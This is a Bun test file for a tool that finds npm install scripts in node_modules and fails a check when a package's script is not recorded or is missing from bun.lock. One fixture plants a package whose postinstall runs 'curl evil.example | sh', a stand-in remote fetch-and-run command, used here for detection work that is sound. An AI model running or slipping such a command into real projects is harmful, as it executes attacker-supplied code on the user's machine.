import { describe, expect, test } from "bun:test";
import { cpSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { committedScripts, installScriptsIn, unexpectedScripts } from "../../native/install-scripts.ts";
import { tempDirectory } from "../helpers/temp-directory.ts";
import { root, writeFiles } from "./checkout.ts";

const manifest = (name: string, scripts?: Record<string, string>) => ({ name, version: "1.2.3", scripts });

/** The scripts that are found when these files lie in a directory. */
function found(files: Record<string, string | object>) {
  using directory = tempDirectory();
  writeFiles(directory.path, files);
  return installScriptsIn(directory.path);
}

describe("installScriptsIn", () => {
  test("finds a planted package, scoped or deep in others, and every stage of an installation", () => {
    expect(
      found({
        "node_modules/harmless/package.json": manifest("harmless", { test: "x", prepublishOnly: "x" }),
        "node_modules/planted/package.json": manifest("planted", { postinstall: "curl evil.example | sh" }),
        "node_modules/@scope/one/package.json": manifest("@scope/one", { preinstall: "a", install: "b", start: "c" }),
        "node_modules/harmless/node_modules/deep/package.json": manifest("deep", { install: "d" }),
        "node_modules/.hidden/node_modules/kept/package.json": manifest("kept", { preinstall: "e" }),
      }),
    ).toEqual({
      "@scope/one@1.2.3": { preinstall: "a", install: "b" },
      "deep@1.2.3": { install: "d" },
      "kept@1.2.3": { preinstall: "e" },
      "planted@1.2.3": { postinstall: "curl evil.example | sh" },
    });
  });

  test("counts a binding.gyp, which npm builds unasked, and what is to be run instead", () => {
    expect(
      found({
        "node_modules/native/package.json": manifest("native"),
        "node_modules/native/binding.gyp": "{}",
        "node_modules/own-way/package.json": manifest("own-way", { install: "prebuild" }),
        "node_modules/own-way/binding.gyp": "{}",
      }),
    ).toEqual({ "native@1.2.3": { install: "node-gyp rebuild" }, "own-way@1.2.3": { install: "prebuild" } });
  });

  test("takes a package.json inside a package for none, since nobody installs it", () => {
    const inner = manifest("example", { postinstall: "x" });
    expect(
      found({
        "node_modules/harmless/package.json": manifest("harmless"),
        "node_modules/harmless/examples/package.json": inner,
        "node_modules/@scope/one/dist/cjs/package.json": inner,
      }),
    ).toEqual({});
  });
});

describe("unexpectedScripts", () => {
  const lock = `{ "packages": { "known": ["known@1.2.3", "", {}, "sha512-"], "@a/b": ["@a/b@1.2.3", "", {}, "sha512-"] } }`;
  const known = { "known@1.2.3": { postinstall: "node x.js" } };

  test("is empty as long as nothing changed, even if a platform does without a package", () => {
    expect(unexpectedScripts(known, known, lock)).toEqual([]);
    expect(unexpectedScripts({}, known, lock)).toEqual([]);
  });

  test.each([
    ["a new package", { ...known, "@a/b@1.2.3": { install: "evil" } }, known, ["@a/b@1.2.3", "evil"]],
    ["another script", { "known@1.2.3": { postinstall: "node y.js" } }, known, ["known@1.2.3", "node y.js"]],
    ["another stage", { "known@1.2.3": { preinstall: "node x.js" } }, known, ["known@1.2.3", "preinstall"]],
    [
      "one stage more",
      { "known@1.2.3": { postinstall: "node x.js", install: "evil" } },
      known,
      ["known@1.2.3", "evil"],
    ],
    ["another version", { "known@1.2.4": { postinstall: "node x.js" } }, known, ["known@1.2.4", "node x.js"]],
    ["a package that is gone", {}, { ...known, "known@1.2.30": { install: "x" } }, ["known@1.2.30", "not in bun.lock"]],
  ])("names %s", (_name, installed, written, words) => {
    const lines = unexpectedScripts(installed, written, lock);
    expect(lines).toHaveLength(1);
    for (const word of words) expect(lines[0]!).toContain(word);
  });
});

describe("the committed list", () => {
  test("is what is installed here, and all of it is in bun.lock", () => {
    const lock = readFileSync(join(root, "bun.lock"), "utf8");
    expect(unexpectedScripts(installScriptsIn(root), committedScripts(), lock)).toEqual([]);
    expect(Object.keys(committedScripts()).length).toBeGreaterThan(0);
  });

  test("a package with a script fails the check until somebody writes it down", async () => {
    using directory = tempDirectory();
    for (const name of ["install-scripts.ts", "install-scripts.json"])
      cpSync(join(root, "native", name), join(directory.path, "native", name), { recursive: true });
    cpSync(join(root, "bun.lock"), join(directory.path, "bun.lock"));
    const run = async (...args: string[]) => {
      const child = Bun.spawn([process.execPath, join(directory.path, "native", "install-scripts.ts"), ...args], {
        stdout: "pipe",
        stderr: "pipe",
      });
      return { code: await child.exited, stderr: await child.stderr.text() };
    };
    expect(await run("--check")).toEqual({ code: 0, stderr: "" });
    writeFiles(directory.path, { "node_modules/planted/package.json": manifest("planted", { postinstall: "evil" }) });
    const { code, stderr } = await run("--check");
    expect([code, stderr.split("\n")[0]]).toEqual([1, `planted@1.2.3 would run {"postinstall":"evil"}`]);
    expect((await run()).code).toBe(0);
    const written: unknown = JSON.parse(readFileSync(join(directory.path, "native", "install-scripts.json"), "utf8"));
    expect(written).toEqual({ "planted@1.2.3": { postinstall: "evil" } });
  });
});
